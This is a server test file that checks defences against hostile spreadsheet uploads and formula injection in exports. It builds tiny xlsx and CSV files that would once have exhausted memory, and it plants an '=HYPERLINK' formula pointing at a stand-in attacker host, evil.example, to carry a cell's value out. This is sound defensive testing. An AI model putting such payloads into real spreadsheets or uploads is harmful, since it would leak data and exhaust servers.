// Uploaded sheets and exported cells under attack (issue 14 items 2 and 4), against a real server:
// - a few hundred bytes of xlsx with one cell at XFD1048576 (rows used to be padded to the widest
//   column: 4 GB and beyond) is refused at once with 413 naming the cap, memory stays low, nothing
//   is imported;
// - a land CSV of ten million empty lines (the import reserved one enterprise per newline) is
//   refused with 413 the same way;
// - a unit user's "=HYPERLINK(…)" reaches the coordinator's CSV and xlsx exports as text with a
//   leading apostrophe, never as a formula.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import { startServer, stopCleanly, login, api } from './server.mjs';
import { parseCsv } from './csv.mjs';
import { readXlsx } from './xlsx.mjs';

let srv, coord;
before(async () => {
  srv = await startServer();
  coord = api(srv.base, await login(srv.base, 'dongezb'));
});
after(async () => { await stopCleanly(srv); });

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (buf) => {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};

// A zip of the given entries (deflated), as small as a hand-made attack file.
function zip(entries) {
  const locals = [], centrals = [];
  let offset = 0;
  for (const [name, text] of Object.entries(entries)) {
    const data = Buffer.from(text, 'utf8'), packed = deflateRawSync(data, { level: 9 }), fname = Buffer.from(name);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0); head.writeUInt16LE(20, 4); head.writeUInt16LE(8, 8);
    head.writeUInt32LE(crc32(data), 14); head.writeUInt32LE(packed.length, 18); head.writeUInt32LE(data.length, 22);
    head.writeUInt16LE(fname.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE(20, 4); central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10); central.writeUInt32LE(crc32(data), 16); central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(data.length, 24); central.writeUInt16LE(fname.length, 28); central.writeUInt32LE(offset, 42);
    locals.push(head, fname, packed);
    centrals.push(central, fname);
    offset += head.length + fname.length + packed.length;
  }
  const dir = Buffer.concat(centrals), end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(centrals.length / 2, 8); end.writeUInt16LE(centrals.length / 2, 10);
  end.writeUInt32LE(dir.length, 12); end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

const WORKBOOK = '<workbook xmlns:r="r"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>';
const peakMemoryMb = () => {
  const m = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${srv.proc.pid}/status`, 'utf8'));
  return Number(m[1]) / 1024;
};
const projectCount = async () => (await coord('GET', '/projects?limit=1')).body.total_count;
const XHDR = { 'Content-Type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' };

test('ledger import: a tiny xlsx with one cell at XFD1048576 → 413 at once, memory bounded, nothing imported', async () => {
  const before = await projectCount();
  const cases = {
    max_rows: '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>项目编号</t></is></c></row>' +
      '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>',
    max_columns: '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>项目编号</t></is></c>' +
      '<c r="XFD1"><v>1</v></c></row></sheetData></worksheet>',
  };
  for (const [limit, sheet] of Object.entries(cases)) {
    const file = zip({ 'xl/workbook.xml': WORKBOOK, 'xl/worksheets/sheet1.xml': sheet });
    assert.ok(file.length < 700, `the attack file is small (${file.length} bytes)`);
    for (const path of ['/projects/import?dry_run=true', '/projects/import']) {
      const started = Date.now();
      const r = await coord('POST', path, new Uint8Array(file), XHDR);
      assert.ok(Date.now() - started < 5000, `answered in ${Date.now() - started} ms`);
      assert.equal(r.status, 413, JSON.stringify(r.body));
      assert.equal(r.body.error.code, 'payload_too_large');
      assert.equal(r.body.limit.name, limit);
      assert.match(r.body.limit.where, limit === 'max_rows' ? /XFD1048576/ : /XFD1/);
      assert.match(r.body.error.message, new RegExp(limit));
    }
  }
  assert.ok(peakMemoryMb() < 300, `server peak memory ${peakMemoryMb()} MB`);
  assert.equal(await projectCount(), before, 'nothing was imported');
});

test('land import: ten million empty lines → 413 (max_rows), no reservation, memory bounded', async () => {
  const q = 'county=371524&year=2025';
  const before = JSON.stringify((await coord('GET', `/land/data?${q}`)).body);
  const body = 'credit_code,name,above_scale,land_mu,tax,revenue\n' + '\n'.repeat(10_000_000);
  for (const dry of ['&dry_run=true', '']) {
    const r = await coord('POST', `/land/import?${q}${dry}`, body, { 'Content-Type': 'text/csv' });
    assert.equal(r.status, 413, JSON.stringify(r.body));
    assert.equal(r.body.error.code, 'payload_too_large');
    assert.equal(r.body.limit.name, 'max_rows');
    assert.equal(r.body.limit.row, 1048577);
  }
  assert.ok(peakMemoryMb() < 300, `server peak memory ${peakMemoryMb()} MB`);
  assert.equal(JSON.stringify((await coord('GET', `/land/data?${q}`)).body), before, 'nothing was imported');
});

test("exports: a unit user's =HYPERLINK(…) reaches CSV and xlsx as text with a leading apostrophe", async () => {
  const unit = api(srv.base, await login(srv.base, 'unit'));
  const link = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")';
  let target;
  for (const p of (await unit('GET', '/projects?limit=100')).body.items) {
    const full = (await unit('GET', `/projects/${p.id}`)).body;
    if (!full.can_edit) continue;
    const r = await unit('PATCH', `/projects/${p.id}`, { version: full.version, builder: link });
    if (r.status === 200) { target = full; break; }
  }
  assert.ok(target, 'the unit user can edit one of its projects');

  const csv = await coord('GET', `/projects/export?format=csv&q=${encodeURIComponent(target.code)}`);
  assert.equal(csv.status, 200);
  const rows = parseCsv(csv.body.toString('utf8').replace(/^\ufeff/, ''));
  const builderCol = rows[0].indexOf('建设单位');
  const row = rows.find((r) => r[0] === target.code);
  assert.ok(row, 'the project is exported');
  assert.equal(row[builderCol], `'${link}`);
  for (const cell of rows.flat()) assert.ok(!/^[=@]/.test(cell), `a live formula in the CSV: ${cell}`);
  // Amounts stay plain numbers (a negative one would too: only text is guarded).
  const moneyCol = rows[0].findIndex((h) => h.includes('万元'));
  assert.ok(rows.slice(1).every((r) => r[moneyCol] === '' || /^-?\d+\.\d\d$/.test(r[moneyCol])));

  const xlsx = await coord('GET', `/projects/export?format=xlsx&q=${encodeURIComponent(target.code)}`);
  assert.equal(xlsx.status, 200);
  const sheet = Object.values(readXlsx(xlsx.body))[0];
  const xrow = sheet.find((r) => r && r[0] === target.code);
  assert.equal(xrow[builderCol], `'${link}`);
  assert.ok(!xlsx.body.includes('<f>'), 'no formula element');
});
